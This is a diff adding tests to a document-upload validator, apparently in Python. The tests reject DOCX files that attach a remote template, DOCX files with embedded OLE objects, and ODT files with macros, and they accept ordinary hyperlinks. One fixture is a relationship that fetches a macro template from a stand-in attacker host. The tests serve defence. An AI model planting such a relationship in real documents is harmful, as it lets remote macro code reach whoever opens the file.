@@ -469,3 +469,44 @@ def test_display_name_is_always_safe(filename: str | None, document_type: Docume
     assert not any(unicodedata.category(char) in {"Cc", "Cf", "Cs"} for char in name)
     assert name == name.strip()
     assert unicodedata.is_normalized("NFC", name)
+
+
+ACTIVE = uploads.ACTIVE_CONTENT
+
+
+def test_refuses_a_docx_that_fetches_a_remote_template() -> None:
+    rels = (
+        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
+        b'2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
+        b'officeDocument/2006/relationships/attachedTemplate" '
+        b'Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>'
+    )
+    assert_refused(minimal_docx(**{"word/_rels/settings.xml.rels": rels}), ACTIVE)
+
+
+def test_accepts_a_docx_with_an_ordinary_web_link() -> None:
+    rels = (
+        b'<Relationships><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/'
+        b'officeDocument/2006/relationships/hyperlink" Target="https://example.com/portfolio" '
+        b'TargetMode="External"/></Relationships>'
+    )
+    assert (
+        check_document(minimal_docx(**{"word/_rels/document.xml.rels": rels}), max_bytes=LIMIT)
+        is DOCX
+    )
+
+
+def test_refuses_a_docx_with_an_embedded_object() -> None:
+    assert_refused(minimal_docx(**{"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}), ACTIVE)
+
+
+def test_refuses_an_odt_with_macros() -> None:
+    odt = build_zip(
+        {
+            "mimetype": ODT_MIMETYPE,
+            "content.xml": b"<office:document-content/>",
+            "Basic/Standard/Module1.xml": b"<script:module/>",
+        },
+        compression=zipfile.ZIP_STORED,
+    )
+    assert_refused(odt, ACTIVE)
